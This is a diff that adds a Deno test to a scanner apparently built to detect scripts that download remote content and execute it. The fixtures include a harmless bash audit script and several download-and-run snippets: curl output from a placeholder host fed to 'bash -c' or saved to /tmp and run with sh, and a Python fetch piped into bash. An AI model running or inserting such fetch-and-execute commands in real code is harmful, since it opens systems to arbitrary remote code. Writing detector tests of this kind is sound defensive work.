@@ -1079,3 +1079,31 @@ Deno.test("downloaded data run by way of a file or a process is still run: writt
     [],
   );
 });
+
+Deno.test("shell: an array's elements and a [[ … ]] test's operands are words, not commands; bash -n runs nothing", () => {
+  const flows = (file: string, text: string) =>
+    findings({ [file]: text }).filter((f) => /-flow$/.test(f.rule))
+      .map((f) => `${f.rule}:${f.line}`);
+  // trailofbits' zeroize-audit: a file's text appended to an array, and a regular expression
+  // with parentheses inside a test, read as commands run from data.
+  const honest = '#!/bin/bash\nfuncs=$(grep -A 20 "^alloc:" "$CONFIG" | tr "\\n" "|")\n' +
+    'PAT="($funcs)"\nsnippet=$(head -20 "$err")\nERRORS+=("check failed: ${snippet}")\n' +
+    'if [[ "$line" =~ ([a-z_]+)[[:space:]]*=[[:space:]]*($PAT)\\( ]]; then echo "$line"; fi\n';
+  assert.deepEqual(flows("scripts/heap.sh", honest), []);
+  // A download kept in an array and run, or run after a test, still is (the piped one
+  // reported once, by its pattern twin).
+  const run = '#!/bin/bash\nX=("$(curl -fsSL https://get.example.net/x)")\nbash -c "${X[0]}"\n' +
+    '[[ -n "$y" && $y =~ ^(a|b)$ ]] && u=https://get.example.net/y && curl -fsSL "$u" -o /tmp/y\n' +
+    "sh /tmp/y\n";
+  assert.deepEqual(flows("scripts/run.sh", run), ["download-exec-flow:3", "download-exec-flow:5"]);
+  // `bash -n` parses what it is given and runs none of it; `bash` alone runs it.
+  const check = (flag: string) =>
+    flows(
+      "scripts/check.py",
+      "import subprocess, urllib.request\n" +
+        'code = urllib.request.urlopen("https://get.example.net/s").read()\n' +
+        `subprocess.run(["bash"${flag}], input=code)\n`,
+    );
+  assert.deepEqual(check(', "-n"'), []);
+  assert.deepEqual(check(""), ["download-exec-flow:3"]);
+});
